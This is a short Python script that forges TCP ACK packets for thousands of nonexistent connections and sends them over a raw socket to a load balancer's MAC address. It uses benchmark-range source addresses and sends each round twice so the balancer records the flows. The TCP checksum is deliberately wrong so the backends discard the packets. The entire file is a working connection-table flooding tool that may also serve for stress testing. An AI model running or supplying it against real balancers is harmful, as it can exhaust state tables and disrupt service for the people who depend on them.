# SPDX-License-Identifier: GPL-2.0-or-later
"""Packets of TCP connections that never were, which the balancer can't tell from open ones.

    forge.py ADDRESS PORT MAC FLOWS

Sends an ACK of each of FLOWS flows to the balancer at MAC, waits for two seconds, and does so again: heard
twice, they get records where slots move. The checksum is wrong, so that whom they reach says nothing.
"""
import ipaddress
import socket
import struct
import sys
import time

PORTS = 1000  # of each source: fewer than its records may be
FIRST_PORT = 10000
SOURCES = int(ipaddress.IPv4Address("198.18.0.0"))  # RFC 2544: nobody's
GAP_S = 2


def header(source, target):
    """IPv4, without options, of a packet that has 20 bytes of TCP."""
    h = struct.pack("!BBHHHBBHII", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    total = sum(struct.unpack("!10H", h))
    total = (total & 0xffff) + (total >> 16)
    return h[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + h[12:]


def forge(out, mac, target, port, flows):
    """One packet of each flow."""
    ethernet = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + b"\x08\x00"
    for n in range(flows):
        if n % PORTS == 0:
            frame = bytearray(ethernet + header(SOURCES + n // PORTS, target) +
                              struct.pack("!HHIIBBHHH", 0, port, 1, 1, 0x50, 0x10, 1024, 0xdead, 0))
        struct.pack_into("!H", frame, 34, FIRST_PORT + n % PORTS)
        out.send(frame)


def main(address, port, mac, flows):
    """Two rounds."""
    target = int(ipaddress.IPv4Address(address))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind(("eth0", 0))
        forge(out, mac, target, int(port), int(flows))
        time.sleep(GAP_S)
        forge(out, mac, target, int(port), int(flows))


if __name__ == "__main__":
    main(*sys.argv[1:])
